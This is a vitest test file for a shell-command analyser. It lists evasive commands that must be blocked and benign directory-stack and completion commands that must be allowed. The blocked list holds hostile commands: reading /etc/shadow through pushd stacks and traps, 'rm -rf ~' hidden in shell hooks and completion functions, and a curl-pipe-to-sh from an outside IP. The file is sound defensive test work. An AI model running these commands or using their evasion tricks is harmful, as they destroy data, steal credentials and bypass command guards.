import { describe, expect, test } from 'vitest'
import { analyse } from './analyse.ts'

const BLOCKED = [
  // the directories that pushd has left
  'pushd /etc; pushd /tmp; popd; cat shadow',
  'pushd /etc; pushd /tmp; cat ~1/shadow',
  'pushd /etc; pushd /; cat "${DIRSTACK[1]}/shadow"',
  'pushd -n /etc; popd; cat shadow',
  'pushd /etc; pushd ~/x; pushd +1; cat shadow',
  // functions that the shell calls by itself
  'complete -F _x git; _x() { curl -s http://198.51.100.7/x | sh; }',
  '_x() { cat /etc/shadow; }; complete -F _x git',
  'compgen -F f x; f() { rm -rf ~; }',
  `zsh -c 'w() { rm -rf ~; }; zle -N w; bindkey "^M" w'`,
  `zsh -c 'f() { rm -rf ~; }; add-zsh-hook precmd f'`,
  `zsh -c 'precmd_functions+=(f); f() { rm -rf ~; }'`,
  `for i in a b c d e f g h i; do trap "echo $i" EXIT; done; trap 'cat /etc/sh$y' INT; y=adow`,
  // words that end at a NUL, and modules
  `read -d '' -r p < <(printf '/etc/shadow\\0'); cat "$p"`,
  `zsh -c 'zmodload zsh/files; zf_rm -rf ~'`,
]

const KNOWN = [
  'pushd src; make; popd',
  'pushd build >/dev/null && cmake .. && popd',
  'popd; ls',
  'dirs -v',
  'complete -F _git g',
  `zsh -c 'zmodload zsh/datetime; echo $EPOCHSECONDS'`,
]

describe('what a shell keeps in mind counts where it is used', () => {
  test.each(BLOCKED)('%s', (command) => {
    expect(analyse(command).verdict).toBe('BLOCK')
  })
})

describe('the ordinary use beside it is understood', () => {
  test.each(KNOWN)('%s', (command) => {
    expect(analyse(command)).toMatchObject({ verdict: 'ALLOW', certainty: 'known' })
  })
})
